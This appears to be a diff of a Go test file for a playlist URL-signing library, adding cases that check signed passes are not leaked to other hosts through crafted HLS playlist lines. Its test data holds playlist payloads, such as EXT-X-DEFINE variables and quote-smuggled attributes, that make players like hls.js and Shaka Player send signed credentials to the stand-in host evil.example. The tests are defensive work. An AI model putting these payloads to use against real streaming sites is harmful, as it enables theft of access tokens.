@@ -120,6 +120,7 @@ func TestNoURLOfAnotherHostHoldsAPartOfThePassAsPlayersReadIt(t *testing.T) {
 func TestPlayersGiveThePassToAnotherHostWhereALineIsNotStrict(t *testing.T) {
 	pass := passFor(t, site+"/movies/7/")
 	key := must[string](t)(pass.URL(site + "/movies/7/k"))
+	_, params, _ := strings.Cut(key, "?")
 	const media = "#EXTM3U\n#EXT-X-TARGETDURATION:6\n"
 	tests := []struct {
 		what, playlist string
@@ -129,6 +130,7 @@ func TestPlayersGiveThePassToAnotherHostWhereALineIsNotStrict(t *testing.T) {
 		{"text after a quotation mark", media + `#EXT-X-MAP:URI="https://evil.example/?"b,X="` + key + "\"\n#EXTINF:6,\na.ts\n", "hls.js"},
 		{"a definition inside of a line", "#EXTM3U\n#EXT-X-KEY:X=\"#EXT-X-DEFINE:NAME=a,VALUE=\",URI=\"" + key + "\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{$a}\n", "hls.js"},
 		{"a variable of the signature", media + "#EXT-X-DEFINE:QUERYPARAM=\"Signature\"\n#EXTINF:6,\nhttps://evil.example/{$Signature}\n", "hls.js and Shaka Player"},
+		{"a variable with escaped braces", "#EXTM3U\n#EXT-X-DEFINE:NAME=\"v\",VALUE=\"/evil.example\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/%7B$v%7D/v.m3u8?" + params + "\n", "Shaka Player"},
 		{"a definition after a slash", media + "/EXT-X-DEFINE:QUERYPARAM=\"Policy\"\n#EXTINF:6,\nhttps://evil.example/{$Policy}\n", "Shaka Player"},
 	}
 	var playlists []string
@@ -162,11 +164,17 @@ func furtherPlaylists(r *rand.Rand, pass *signer.Pass) func(hls.Reference) (stri
 			return "/watch/" + name, nil
 		}
 	}
+	// A program on the content's own host, which signs further playlists, too.
+	isRelative := oneIn(r, 2)
 	return func(p hls.Reference) (string, error) {
 		if !pass.Covers(p.URL) {
 			return "", nil
 		}
-		return pass.URL(p.URL)
+		signed, err := pass.URL(p.URL)
+		if isRelative {
+			signed = strings.TrimPrefix(signed, site)
+		}
+		return signed, err
 	}
 }
 
@@ -179,7 +187,7 @@ func oneIn(r *rand.Rand, n int) bool { return r.IntN(n) == 0 }
 var (
 	ourURIs = []string{
 		"s.ts", "a/b.ts", "../x.mp4", "/movies/7/k", site + "/movies/7/i.mp4", "//" + site[len("https://"):] + "/movies/7/y", "s.ts?x=1",
-		"{$here}s.ts", "{$host}/movies/7/z", "s.ts?t={$token}", "%7B$theirs%7D/s.ts", "s,1;2.ts", ".a", "?x=1",
+		"{$here}s.ts", "{$host}/movies/7/z", "s.ts?t={$token}", "%7B$theirs%7D/s.ts", "/%7B$theirs%7D/v.m3u8", "s,1;2.ts", ".a", "?x=1",
 	}
 	otherURIs = []string{
 		"https://evil.example/x", "https://evil.example/?", "//evil.example/x", "///evil.example/x", "https:evil.example/x", "HTTPS:evil.example", "hTTps://evil.example/",
@@ -248,6 +256,7 @@ var (
 		{"#EXT-X-SESSION-KEY:METHOD=AES-128,X=\"\u2029#EXT-X-MEDIA:TYPE=AUDIO,URI=https://evil.example/?\",URI=\"k\""},
 		{`#EXT-X-KEY:X="#EXT-X-DEFINE:NAME=w,VALUE=",URI="k"`, "#EXT-X-STREAM-INF:BANDWIDTH=1", "https://evil.example/{$w}"},
 		{`##EXT-X-DEFINE:QUERYPARAM="Policy"`, "#EXT-X-STREAM-INF:BANDWIDTH=1", "https://evil.example/{$Policy}"},
+		{`#EXT-X-DEFINE:NAME="h",VALUE="/evil.example"`, "#EXT-X-STREAM-INF:BANDWIDTH=1", "/%7B$h%7D/v.m3u8"},
 		{`#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="https://evil.example/?"b,URI="a.m3u8"`, "#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"", "v.m3u8"},
 	}
 )
